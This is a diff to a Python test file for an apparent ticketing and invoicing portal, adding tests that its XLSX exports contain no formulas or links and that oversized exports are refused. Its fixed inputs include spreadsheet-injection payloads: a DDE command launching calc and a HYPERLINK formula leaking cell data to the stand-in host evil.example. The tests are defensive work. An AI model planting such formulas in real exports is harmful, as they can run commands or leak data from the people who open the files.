@@ -6,17 +6,20 @@ from __future__ import annotations
 import csv
 import io
 import re
+import zipfile
 from collections.abc import Iterator
 from decimal import Decimal, InvalidOperation
 from pathlib import Path
 
 import pytest
+from lxml import etree
 
 from api.portal import PORTAL_RULES
 from tests.support.api import World, world_on
 from tests.support.planted import Planted, plant
 from tests.support.portal import browsing
 from ticketos.dev.database import PostgresUrls
+from ticketos.reports.workbook import MEDIA
 
 STARTS = ("=", "+", "-", "@", "\t", "\r", "\n", "＝", "＋", "－", "＠")
 FORMS = ("cmd|' /C calc'!A0", 'HYPERLINK("https://evil.example?x="&A1,"Pay")', "SUM(1+1)", "1+1", "2-3", "x")
@@ -70,3 +73,61 @@ async def test_no_cell_is_a_formula(world: World, planted: Planted, path: str) -
                         assert not cell.startswith(STARTS) or _number(cell), (address, cell)
     assert read > 0 or "{" in path, path
     assert neutral > 0 or path in NO_WORDS, path
+
+
+@pytest.mark.parametrize("path", FILES)
+async def test_the_same_list_is_a_workbook_without_a_formula(
+    world: World, planted: Planted, path: str
+) -> None:
+    ids = {"invoice_id": planted.ids["issued"], "line_id": planted.ids["line"]}
+    address = re.sub(r"\{(\w+)\}", lambda found: str(ids[found[1]]), path)
+    query = {"state": "all", "view": "all"} | (
+        {"book": "acme", "period": "2026-10"} if path.startswith("/books") else {}
+    )
+    seen = 0
+    for who in ("client", "ops", "finance"):
+        async with browsing(world, planted.people[who]) as browser:
+            plain = await browser.client.get(address, params=query)
+            if plain.status_code in (303, 403, 404):
+                continue
+            answer = await browser.client.get(address, params={**query, "as": "xlsx"})
+            assert answer.status_code == 200
+            assert answer.headers["content-type"] == MEDIA
+            assert ".xlsx" in answer.headers["content-disposition"]
+            rows = _sheet(answer.content)
+            written = list(csv.reader(io.StringIO(plain.text.removeprefix("\ufeff"))))
+            assert len(rows) == len(written)
+            assert rows[0] == written[0]
+            for text in (one for row in rows for one in row):
+                assert not text.startswith(STARTS) or _number(text), (address, text)
+            seen += 1
+    assert seen > 0 or "{" in path
+
+
+def _sheet(content: bytes) -> list[list[str]]:
+    """Rows of a workbook's sheet as text; a formula or a link in it is an error."""
+    space = {"s": "http://schemas.openxmlformats.org/spreadsheetml/2006/main"}
+    with zipfile.ZipFile(io.BytesIO(content)) as packed:
+        page = etree.fromstring(packed.read("xl/worksheets/sheet1.xml"))
+        kept = etree.fromstring(packed.read("xl/sharedStrings.xml"))
+    assert not page.xpath("//s:f | //s:hyperlink", namespaces=space)
+    texts = ["".join(one.itertext()) for one in kept.xpath("//s:si", namespaces=space)]
+    return [
+        [
+            texts[int(value)] if cell.get("t") == "s" else value
+            for cell in row.xpath("s:c", namespaces=space)
+            for value in cell.xpath("s:v/text()", namespaces=space)
+        ]
+        for row in page.xpath("//s:row", namespaces=space)
+    ]
+
+
+async def test_more_rows_than_a_workbook_takes_are_refused_in_words(
+    world: World, planted: Planted, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    monkeypatch.setattr("ticketos.reports.workbook.MOST_ROWS", 1)
+    monkeypatch.setattr("api.portal.routes.tickets.FILE_PAGE", 1)
+    async with browsing(world, planted.people["ops"]) as browser:
+        refused = await browser.get("/tickets.csv?state=all&as=xlsx")
+        assert refused.status == 413
+        assert "take it as CSV" in refused.text
